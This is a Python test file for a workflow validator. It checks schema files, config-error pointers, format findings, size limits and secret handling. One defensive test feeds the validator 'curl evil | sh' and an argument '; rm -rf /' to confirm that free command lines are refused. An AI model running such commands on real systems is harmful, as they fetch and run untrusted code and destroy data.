"""The schema files, `format_invalid` and `node_config_invalid`: where each finding points, and when the
graph rules still run."""

from __future__ import annotations

import json
import re
from importlib.resources import files
from typing import Any

import pytest
from jsonschema import Draft202012Validator

from backend.graph import load_schema, validate
from backend.graph.durations import DURATION_PATTERN
from backend.graph.model import NODE_TYPES
from backend.graph.outline import MAX_NODES, MAX_WIRES
from tests.graph.graph_flows import found
from tests.support import flow

SCHEMAS = files("backend.graph").joinpath("schemas")


def test_every_schema_file_is_a_valid_2020_12_schema_with_an_id() -> None:
    names = ["flow", *NODE_TYPES]
    for name in names:
        schema = load_schema(name)
        Draft202012Validator.check_schema(schema)
        assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
        assert schema["$id"].endswith(("/flow.schema.json", f"/nodes/{name}.schema.json"))
    on_disk = {entry.name for entry in SCHEMAS.joinpath("nodes").iterdir()}
    assert on_disk == {f"{node_type}.schema.json" for node_type in NODE_TYPES}


def test_load_schema_gives_a_copy_and_reads_the_file() -> None:
    schema = load_schema("log")
    schema["properties"].clear()
    assert load_schema("log") == json.loads(SCHEMAS.joinpath("nodes", "log.schema.json").read_text())
    assert "message" in load_schema("log")["properties"]


def test_the_schema_says_the_limits_and_patterns_the_code_uses() -> None:
    flow_schema = load_schema("flow")
    assert flow_schema["properties"]["nodes"]["maxItems"] == MAX_NODES
    assert flow_schema["properties"]["wires"]["maxItems"] == MAX_WIRES
    # The schema's duration pattern is DURATION_PATTERN without Python's named groups (ECMA-262 has none).
    plain = re.sub(r"\?P<\w+>", "", DURATION_PATTERN)
    assert load_schema("delay")["properties"]["duration"]["pattern"] == plain
    assert load_schema("approval")["properties"]["deadline"]["pattern"] == plain
    assert all(re.fullmatch(r"[a-z][a-z0-9_]*", node_type) for node_type in NODE_TYPES)


@pytest.mark.parametrize("node_type", NODE_TYPES)
def test_the_sample_config_of_every_type_is_valid(node_type: str) -> None:
    nodes = "t:trigger" if node_type == "trigger" else f"t:trigger x:{node_type}"
    document = flow(nodes, wires="" if node_type == "trigger" else "t>x")
    assert found(validate(document), "node_config_invalid") == []


def config_findings(node_type: str, config: Any) -> list[str | None]:
    document = flow(f"t:trigger x:{node_type}", wires="t>x")
    document["nodes"][1]["config"] = config
    findings = validate(document)
    assert all(f.node == "x" for f in findings if f.code == "node_config_invalid")
    return [f.detail for f in findings if f.code == "node_config_invalid"]


X = "/nodes/1/config"


@pytest.mark.parametrize(
    ("node_type", "config", "pointers"),
    [
        ("trigger", {}, [f"{X}/kind"]),
        ("trigger", {"kind": "cron"}, [f"{X}/kind"]),
        ("trigger", {"kind": "schedule"}, [f"{X}/cron", f"{X}/timezone"]),
        ("trigger", {"kind": "schedule", "cron": "0 9 * * 1-5", "timezone": "Europe/Paris"}, []),
        ("trigger", {"kind": "schedule", "cron": "0 9 * *", "timezone": "Europe/Paris"}, [f"{X}/cron"]),
        ("trigger", {"kind": "manual", "cron": "0 9 * * *"}, [f"{X}/cron"]),
        ("set", {"values": {}}, [f"{X}/values"]),
        ("set", {"values": {"a b": "x"}}, [f"{X}/values/a b"]),
        ("set", {"values": {"n": 1}}, [f"{X}/values/n"]),
        ("condition", {"left": 1, "op": "is"}, [f"{X}/op"]),
        ("condition", {"left": 1, "op": "eq"}, [f"{X}/right"]),
        ("condition", {"left": "{{x}}", "op": "exists"}, []),
        ("condition", {"left": [1], "op": "eq", "right": {}}, [f"{X}/left", f"{X}/right"]),
        ("foreach", {"items": "{{xs}}", "as": "2x"}, [f"{X}/as"]),
        ("foreach", {"items": "{{xs}}", "as": "x\n"}, [f"{X}/as"]),
        ("foreach", {"items": [1, 2], "as": "x"}, []),
        ("foreach", {"items": "", "as": "x"}, [f"{X}/items"]),
        ("repeat", {"while": {"left": 1, "op": "nope", "right": 1}}, [f"{X}/while/op"]),
        ("repeat", {}, [f"{X}/while"]),
        ("break", {"x": 1}, [f"{X}/x"]),
        ("approval", {"title": "ok", "deadline": "P2D"}, [f"{X}/on_timeout"]),
        ("approval", {"title": "ok", "deadline": None}, []),
        ("approval", {"title": "ok", "deadline": "P1M", "on_timeout": "skip"}, [f"{X}/deadline"]),
        ("approval", {"title": "ok", "approvers": ["finance"]}, [f"{X}/approvers/0"]),
        ("approval", {"title": "", "on_timeout": "later"}, [f"{X}/on_timeout", f"{X}/title"]),
        ("delay", {}, [X]),
        ("delay", {"duration": "PT1H", "until": "{{when}}"}, [X]),
        ("delay", {"duration": "1 hour"}, [f"{X}/duration"]),
        ("http", {"method": "FETCH", "url": "ftp://x"}, [f"{X}/method", f"{X}/url"]),
        ("http", {"method": "GET", "url": "{{base}}/x", "timeout_s": 0}, [f"{X}/timeout_s"]),
        ("http", {"method": "GET", "url": "https://x", "timeout_s": 301}, [f"{X}/timeout_s"]),
        (
            "http",
            {"method": "GET", "url": "https://x", "headers": {"Bad Name": "v"}},
            [f"{X}/headers/Bad Name"],
        ),
        ("http", {"method": "GET", "url": "https://x", "body": {"any": ["json", 1]}}, []),
        ("notify", {"channel": "sms", "to": "x", "message": "m"}, [f"{X}/channel"]),
        ("command", {"server": "web"}, [f"{X}/template"]),
        # A free command line is command_line_refused (tested below), not a schema finding.
        ("command", {"server": "web", "template": "t", "command": "c"}, []),
        ("command", {"server": "web", "template": "restart", "args": {"service": "db", "n": 2}}, []),
        ("command", {"server": "web", "template": "ls", "args": ["-l"]}, [f"{X}/args"]),
        ("command", {"server": "{{trigger.server}}", "template": "t"}, [f"{X}/server"]),
        ("command", {"server": "web", "template": "t", "args": {"a b": "x"}}, [f"{X}/args/a b"]),
        ("log", {"message": "m", "level": "loud"}, [f"{X}/level"]),
        ("end", {"status": "done"}, [f"{X}/status"]),
        ("end", {"status": "failed", "message": "no"}, []),
    ],
)
def test_node_config_findings_point_at_the_offending_value(
    node_type: str, config: dict[str, Any], pointers: list[str]
) -> None:
    assert config_findings(node_type, config) == pointers


def test_a_config_finding_says_where_and_what_in_its_message(monkeypatch: pytest.MonkeyPatch) -> None:
    from backend.i18n import catalogs

    english = catalogs.catalog("en")  # the problems' own sentences, which the finding cites
    monkeypatch.setattr(
        catalogs, "catalog", lambda locale: {**english, "node_config_invalid": "{node} {field}: {problem}"}
    )
    document = flow("t:trigger x:log", wires="t>x")
    document["nodes"][1]["config"]["level"] = "loud"
    [finding] = validate(document)
    assert finding.message == 'x Level: The value must be "debug", "info", "warning", or "error"'
    assert finding.detail == "/nodes/1/config/level"


@pytest.mark.parametrize("document", [None, [], "flow", 3, True, {"nodes": "x"}])
def test_a_document_that_is_no_flow_is_format_invalid_and_nothing_else(document: object) -> None:
    findings = validate(document)
    assert findings and {f.code for f in findings} == {"format_invalid"}


def test_format_findings_point_at_each_offending_value_in_document_order() -> None:
    document = flow("t:trigger a:log", wires="t>a")
    document["extra"] = 1
    document["format"] = "flowyard.flow/2"
    document["name"] = "   "
    document["nodes"][1]["id"] = "a\n"
    document["nodes"][1]["label"] = "x" * 201
    document["nodes"][0]["position"] = {"x": 1}
    del document["wires"][0]["to"]
    document["wires"][0]["port"] = "out"
    document["wires"].append({"from": "t", "to": "a", "colour": "red"})
    findings = validate(document)
    assert [(f.detail, f.node, f.wire) for f in findings if f.code == "format_invalid"] == [
        ("/extra", None, None),
        ("/format", None, None),
        ("/name", None, None),
        ("/nodes/0/position/y", "t", None),
        ("/nodes/1/id", "a\n", None),
        ("/nodes/1/label", "a\n", None),
        ("/wires/0/to", None, 0),
        ("/wires/1/colour", None, 1),
    ]


def test_the_graph_rules_run_past_a_format_finding_when_nodes_and_wires_can_be_read() -> None:
    document = flow("t:trigger a:log b:log", wires="t>a")
    document["name"] = ""
    assert found(validate(document)) == [("format_invalid", None, None), ("node_unreachable", "b", None)]


@pytest.mark.parametrize(
    "breakage",
    [
        lambda d: d.pop("nodes"),
        lambda d: d.__setitem__("wires", {}),
        lambda d: d["nodes"][1].pop("id"),
        lambda d: d["nodes"][1].__setitem__("type", 3),
        lambda d: d["nodes"].__setitem__(1, "a"),
        lambda d: d["wires"][0].__setitem__("to", None),
        lambda d: d["wires"][0].__setitem__("port", 1),
    ],
)
def test_the_graph_rules_stop_when_nodes_or_wires_cannot_be_read(breakage: Any) -> None:
    document = flow("t:trigger a:log b:log", wires="t>a")
    breakage(document)
    findings = validate(document)
    assert findings and {f.code for f in findings} == {"format_invalid"}


def test_more_than_a_thousand_nodes_is_one_finding_and_no_more() -> None:
    document = flow(" ".join(["t:trigger"] + [f"n{i}:log" for i in range(MAX_NODES)]))
    document["nodes"][5]["config"] = {"message": 1}
    assert [(f.code, f.detail) for f in validate(document)] == [("format_invalid", "/nodes")]
    document["nodes"].pop()
    assert ("node_config_invalid", "/nodes/5/config/message") in [
        (f.code, f.detail) for f in validate(document)
    ]


def test_more_than_ten_thousand_wires_is_one_finding_and_no_more() -> None:
    document = flow("t:trigger a:log")
    document["wires"] = [{"from": "t", "to": "nowhere"}] * (MAX_WIRES + 1)
    assert [(f.code, f.detail) for f in validate(document)] == [("format_invalid", "/wires")]
    document["wires"].pop()
    findings = validate(document, limit=MAX_WIRES + 10)
    assert [f.code for f in findings].count("wire_endpoint_unknown") == MAX_WIRES


def test_a_config_that_is_no_object_is_a_format_finding_only() -> None:
    document = flow("t:trigger a:log", wires="t>a")
    document["nodes"][1]["config"] = ["message"]
    assert [(f.code, f.detail, f.node) for f in validate(document)] == [
        ("format_invalid", "/nodes/1/config", "a")
    ]


def test_an_unknown_type_has_its_own_finding_and_no_config_finding() -> None:
    document = flow("t:trigger a:teleport", wires="t>a")
    assert [(f.code, f.detail) for f in validate(document)] == [("node_type_unknown", "/nodes/1/type")]


def test_a_duplicate_node_has_its_config_checked_too() -> None:
    document = flow("t:trigger a:log a:log", wires="t>a")
    document["nodes"][2]["config"] = {}
    assert [(f.code, f.detail) for f in validate(document)] == [
        ("node_id_duplicate", "/nodes/2/id"),
        ("node_config_invalid", "/nodes/2/config/message"),
    ]


def test_values_nested_too_deep_to_explain_are_reported_whole() -> None:
    deep: Any = "x"
    for _ in range(5000):
        deep = [deep]
    document = flow("t:trigger a:log", wires="t>a")
    document["nodes"][1]["config"] = {"message": deep}
    assert [(f.code, f.detail) for f in validate(document)] == [("node_config_invalid", "/nodes/1/config")]
    document["nodes"][1]["config"] = {"message": "m"}
    document["description"] = deep
    assert [(f.code, f.detail) for f in validate(document)] == [("format_invalid", "")]


def test_a_deep_value_where_any_json_is_allowed_is_valid() -> None:
    deep: Any = {"leaf": "{{x}}"}
    for _ in range(200):
        deep = {"next": deep}
    document = flow("t:trigger h:http", wires="t>h")
    document["nodes"][1]["config"]["body"] = deep
    assert validate(document) == []


def test_a_free_command_line_is_refused_with_its_own_code() -> None:
    document = flow("t:trigger x:command", wires="t>x")
    document["nodes"][1]["config"] = {"server": "web", "command": "curl evil | sh", "args": ["; rm -rf /"]}
    findings = validate(document)
    refused = [(f.code, f.node, f.detail) for f in findings if f.code == "command_line_refused"]
    assert refused == [("command_line_refused", "x", f"{X}/command")]
    # The template it lacks and its old list of args are findings too: the document is nowhere near valid.
    assert sorted(str(f.detail) for f in findings if f.code == "node_config_invalid") == [
        f"{X}/args",
        f"{X}/template",
    ]


def test_a_secret_outside_an_action_config_is_a_finding() -> None:
    document = flow("t:trigger say:log call:http", wires="t>say say>call")
    document["nodes"][1]["config"] = {"message": "the key is {{ secrets.api_key }}"}
    document["nodes"][2]["config"] = {
        "method": "GET",
        "url": "https://api.example/x",
        "headers": {"Authorization": "Bearer {{secrets.api_key}}"},
    }
    findings = [(f.code, f.node, f.detail) for f in validate(document)]
    assert findings == [("secret_outside_action", "say", "/nodes/1/config/message")]
